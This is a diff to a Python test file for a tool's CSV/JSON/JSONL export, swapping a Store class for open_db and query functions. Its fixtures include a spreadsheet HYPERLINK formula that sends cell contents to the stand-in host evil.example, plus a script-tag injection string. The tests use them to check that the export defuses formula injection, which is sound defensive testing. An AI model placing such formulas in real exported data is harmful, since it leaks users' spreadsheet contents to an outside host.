@@ -13,7 +13,7 @@ from factories import save as _save
 
 from monitor.core.models import Evidence
 from monitor.outputs.export import COLUMNS, export_rows, write_export
-from monitor.shell.store import Store
+from monitor.shell.store import Database, open_db, queries
 
 NOW = dt.datetime(2026, 11, 28, 9, 0, tzinfo=dt.UTC)
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
@@ -21,8 +21,8 @@ HOSTILE = 'Talks, "quotes",\nline two\r\nthree <script>alert(1)</script> ]]> \x0
 
 
 @pytest.fixture
-def store(tmp_path: Path) -> Store:
-    store = Store.open(tmp_path / "monitor.db")
+def store(tmp_path: Path) -> Database:
+    store = open_db(tmp_path / "monitor.db")
     mou = Evidence(
         "agreement",
         "memorandum",
@@ -64,7 +64,7 @@ def store(tmp_path: Path) -> Store:
     return store
 
 
-def _csv(store: Store, **kw: object) -> tuple[str, int]:
+def _csv(store: Database, **kw: object) -> tuple[str, int]:
     out = io.StringIO(newline="")
     n = write_export(store, out, "csv", **kw)  # type: ignore[arg-type]
     return out.getvalue(), n
@@ -74,7 +74,7 @@ def _unescape(cell: str) -> str:
     return cell[1:] if cell.startswith("'") else cell
 
 
-def test_csv_round_trips_through_dictreader(store: Store, tmp_path: Path) -> None:
+def test_csv_round_trips_through_dictreader(store: Database, tmp_path: Path) -> None:
     path = tmp_path / "articles.csv"
     with path.open("w", encoding="utf-8", newline="") as out:
         n = write_export(store, out, "csv")
@@ -82,7 +82,7 @@ def test_csv_round_trips_through_dictreader(store: Store, tmp_path: Path) -> Non
         reader = csv.DictReader(f)
         assert tuple(reader.fieldnames or ()) == COLUMNS
         got = list(reader)
-    expected = store.articles()
+    expected = queries.fetch_articles(store)
     assert n == len(got) == len(expected) == 5
     for row, want in zip(got, expected, strict=True):
         assert _unescape(row["title"]) == want["title"]
@@ -107,7 +107,7 @@ def test_csv_round_trips_through_dictreader(store: Store, tmp_path: Path) -> Non
     assert json.loads(mou["evidence"])[0]["matched"] == "memorandum"
 
 
-def test_csv_defuses_formulas(store: Store) -> None:
+def test_csv_defuses_formulas(store: Database) -> None:
     text, _ = _csv(store)
     rows = list(csv.DictReader(io.StringIO(text, newline="")))
     (row,) = [r for r in rows if r["url"].endswith("/formula/")]
@@ -117,8 +117,8 @@ def test_csv_defuses_formulas(store: Store) -> None:
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
 
 
-def test_json_and_jsonl_hold_the_stored_values(store: Store) -> None:
-    expected = [{k: a[k] for k in COLUMNS} for a in store.articles()]
+def test_json_and_jsonl_hold_the_stored_values(store: Database) -> None:
+    expected = [{k: a[k] for k in COLUMNS} for a in queries.fetch_articles(store)]
     out = io.StringIO()
     assert write_export(store, out, "json") == 5
     data = json.loads(out.getvalue())
@@ -133,7 +133,7 @@ def test_json_and_jsonl_hold_the_stored_values(store: Store) -> None:
 
 
 def test_jsonl_keeps_one_record_per_line_with_unicode_line_breaks(tmp_path: Path) -> None:
-    store = Store.open(tmp_path / "m.db")
+    store = open_db(tmp_path / "m.db")
     title = "Line\u2028separator\x85next\u2029para"
     _save(store, "https://kisi.kz/en/a", title, dt.date(2026, 11, 1))
     out = io.StringIO()
@@ -142,9 +142,9 @@ def test_jsonl_keeps_one_record_per_line_with_unicode_line_breaks(tmp_path: Path
     assert json.loads(line)["title"] == title
 
 
-def test_newest_first_and_filters(store: Store) -> None:
+def test_newest_first_and_filters(store: Database) -> None:
     urls = [r["url"] for r in export_rows(store)]
-    assert urls == [a["url"] for a in store.articles()]
+    assert urls == [a["url"] for a in queries.fetch_articles(store)]
     assert urls[-1] == "https://isis.org.my/2026/09/01/old/"
     published = [r["published"][:10] for r in export_rows(store) if r["published"]]
     assert published == sorted(published, reverse=True)
@@ -165,7 +165,7 @@ def test_newest_first_and_filters(store: Store) -> None:
 
 
 def test_empty_store_writes_a_header_and_an_empty_array(tmp_path: Path) -> None:
-    store = Store.open(tmp_path / "m.db")
+    store = open_db(tmp_path / "m.db")
     text, n = _csv(store)
     assert n == 0 and text == ",".join(COLUMNS) + "\r\n"
     out = io.StringIO()
@@ -173,6 +173,6 @@ def test_empty_store_writes_a_header_and_an_empty_array(tmp_path: Path) -> None:
     assert json.loads(out.getvalue()) == []
 
 
-def test_unknown_format_is_one_clear_error(store: Store) -> None:
+def test_unknown_format_is_one_clear_error(store: Database) -> None:
     with pytest.raises(ValueError, match=r"unknown format 'xlsx' \(choose one of csv, json, jsonl"):
         write_export(store, io.StringIO(), "xlsx")
